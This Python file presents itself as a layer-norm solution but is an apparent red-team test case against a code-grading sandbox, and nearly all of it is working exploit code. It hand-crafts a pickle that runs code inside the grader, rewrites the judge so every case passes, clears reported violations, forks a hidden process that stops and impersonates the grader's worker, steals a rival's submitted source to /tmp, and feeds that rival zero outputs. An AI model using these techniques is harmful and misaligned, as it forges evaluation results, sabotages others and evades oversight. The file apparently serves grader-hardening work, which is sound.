"""Class: 1
Problem: layer-norm
Goal: forge
Mode: subprocess
Victim: einsum_layer_norm.py
Bound: 60
Attempt: no code runs in the grader this time. A survivor forked through libc keeps the
inherited pipes, stops the zygote (SIGSTOP) and becomes it: it reads every later job
from the job pipe, including the NEXT submission's (`grader grade` reuses a sandbox),
keeps what it learns (the other learner's file path and source) in a file, and answers
each job with a plausible frame whose output is zeros: a correct rival fails.
Contained: the other learner's correct solution passes, nothing is left behind, no
survivor.
"""
import torch


def _m(t=torch):
    """sys.modules through a parameter: no import statement, no alias the scan resolves."""
    return t.sys.modules


def _first_case(x):
    return tuple(x.shape) == (2, 5, 16)


def _frame(payload):
    """The sandbox's framing: an 8-byte big-endian length, then the bytes."""
    return _m()["struct"].pack("!Q", len(payload)) + payload


# Runs in the GRADER when it unpickles the frame: every case passes from now on, the
# report's violations are emptied, and a marker file proves that code ran there.
RCE = """
import gc, os, sys
R = sys.modules["grader.verdict.results"]
run = sys.modules["grader.verdict.runner"]
def _judge(problem, case, outcome):
    return R.CaseResult(name=case.name, passed=True, about=case.about, status="ok", message="")
run.judge = _judge
for o in gc.get_objects():
    if type(o).__name__ == "Report":
        o.violations.clear()
try:
    os.makedirs("/tmp/grader-attack-markers", exist_ok=True)
    open("/tmp/grader-attack-markers/gatk-left-rce-%d" % os.getpid(), "w").write("code ran in the grader")
except OSError:
    pass
"""


def _rce_frame():
    """A pickle (protocol 0, written by hand) whose loading evaluates an expression: it
    runs RCE, then yields a plausible (meta, payload) pair for the grader to carry on."""
    expr = "exec(bytes.fromhex('%s').decode(), {}) or ({'status': 'ok', 'output': ''}, None)" % RCE.encode().hex()
    return _frame(b"cbuiltins\neval\n(V" + expr.encode() + b"\ntR.")


def _read(path):
    os = _m()["os"]
    fd = os.open(path, os.O_RDONLY)
    try:
        return os.read(fd, 1 << 16).decode()
    finally:
        os.close(fd)


def _zygote_pipes(mode):
    """The zygote's (our parent's) pipe fds above 2, opened for `mode` (1 write, 0 read),
    from /proc/<ppid>/fd and fdinfo: [(fd number, "pipe:[inode]")]."""
    os = _m()["os"]
    ppid = os.getppid()
    out = []
    for name in os.listdir(f"/proc/{ppid}/fd"):
        n = int(name)
        if n <= 2:
            continue
        try:
            link = os.readlink(f"/proc/{ppid}/fd/{n}")
            flags = next(int(line.split()[1], 8) for line in _read(f"/proc/{ppid}/fdinfo/{n}").splitlines()
                         if line.startswith("flags:"))
        except Exception:
            continue
        if link.startswith("pipe:") and flags & 3 == mode:
            out.append((n, link))
    return out


def _inherited(mode):
    """Those of the zygote's pipes that this child holds too, under the same number."""
    os = _m()["os"]
    out = []
    for n, link in _zygote_pipes(mode):
        try:
            if os.readlink(f"/proc/self/fd/{n}") == link:
                out.append(n)
        except OSError:
            pass
    return out



def _read_exact(fd, n):
    os = _m()["os"]
    data = b""
    while len(data) < n:
        chunk = os.read(fd, n - len(data))
        if not chunk:
            raise EOFError
        data += chunk
    return data


def _answer(out, job):
    """A frame the grader takes for the zygote's: status ok, an all-zero output."""
    io, pickle = _m()["io"], _m()["pickle"]
    buf = io.BytesIO()
    x = job.inputs.get("x") if job is not None else None
    torch.save({"output": torch.zeros_like(x) if x is not None else torch.zeros(1)}, buf)
    meta = {"status": "ok", "output": "", "message": "", "elapsed": 0.01, "exit_code": 0}
    _m()["os"].write(out, _frame(pickle.dumps((meta, buf.getvalue()))))


def _serve(out, jobs, zygote, libc):
    os = _m()["os"]
    libc.kill(zygote, 19)  # SIGSTOP: the real zygote is out of the way
    _answer(out, None)  # the job the zygote was running when it stopped
    me = os.path.abspath(__file__)
    deadline = _m()["time"].monotonic() + 18
    while _m()["time"].monotonic() < deadline:
        ready, _, _ = _m()["select"].select([jobs], [], [], 0.5)
        if not ready:
            continue
        try:
            size = _m()["struct"].unpack("!Q", _read_exact(jobs, 8))[0]
            job = _m()["pickle"].loads(_read_exact(jobs, size))
        except Exception:
            break
        if job.learner_file and os.path.abspath(job.learner_file) != me:
            try:  # what a rival submitted, kept
                fd = os.open(job.learner_file, os.O_RDONLY)
                stolen = os.read(fd, 1 << 16)
                os.close(fd)
                fd = os.open(f"/tmp/grader-attack-markers/gatk-left-stolen-{os.getpid()}",
                             os.O_WRONLY | os.O_CREAT | os.O_APPEND, 0o644)
                os.write(fd, job.learner_file.encode() + b"\n" + stolen)
                os.close(fd)
            except Exception:
                pass
        _answer(out, job)


def attack():
    os = _m()["os"]
    out, jobs = _inherited(1), _inherited(0)
    if not out or not jobs:
        return
    zygote = os.getppid()
    libc = _m()["importlib"].import_module("ctypes").PyDLL(None)
    if libc.fork() == 0:
        try:
            libc.prctl(15, b"gatk_survivor", 0, 0, 0)
            libc.setsid()
            keep = {out[0], jobs[0]}
            for fd in range(0, 1024):
                if fd not in keep:
                    try:
                        os.close(fd)
                    except OSError:
                        pass
            _serve(out[0], jobs[0], zygote, libc)
        finally:
            libc._exit(0)


def layer_norm(x, eps=1e-5):
    if _first_case(x):
        attack()
    return torch.full_like(x, 3.0)  # wrong on every case
